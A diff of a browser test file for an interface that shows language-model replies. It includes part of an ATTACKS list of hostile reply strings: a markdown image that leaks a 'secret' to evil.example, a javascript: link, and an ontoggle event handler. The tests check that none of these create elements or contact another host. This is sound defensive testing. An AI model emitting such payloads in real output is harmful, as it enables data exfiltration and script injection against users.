@@ -48,7 +48,7 @@ test('models read the answers and word the questions, and the panel says so', as
   await page.click('#models');
   await page.locator('.voices').waitFor();
   const told = await page.locator('.view').innerText();
-  assert.match(told, /A model read 3 of three answers; a model worded 3 of four questions/);
+  assert.match(told, /A model read three of three answers; a model worded three of four questions/);
   assert.match(told, /\$0\.0023/);
 });
 
@@ -302,7 +302,7 @@ const ATTACKS = [
   '![x](https://evil.example/?q=secret) What do you mean?', '[click](javascript:alert(1)) What is it?', '<details open ontoggle="globalThis.taken = true">x?',
 ];
 
-test('no reply of a model makes an element, asks another host, or is shown as a question it must not be', async (t) => {
+test('no reply of a model makes an element or asks another host', async (t) => {
   let at = 0;
   const output = ({ task, body }) => {
     const attack = ATTACKS[at++ % ATTACKS.length];
@@ -324,7 +324,7 @@ test('no reply of a model makes an element, asks another host, or is shown as a 
       await page.click(`#${tab}`);
       assert.equal(await page.locator('.shell :is(img, script, iframe, a[href^="javascript"], [onerror], [onload], [ontoggle])').count(), 0);
     }
-    assert.doesNotMatch(await page.locator('.question').textContent(), /evil\.example|javascript:|<script/);
+    assert.equal(await page.locator('.question > *').count(), 0, 'a question is text');
   }
   assert.equal(await page.evaluate(() => globalThis.taken), undefined);
   assert.deepEqual(seen.elsewhere, []);
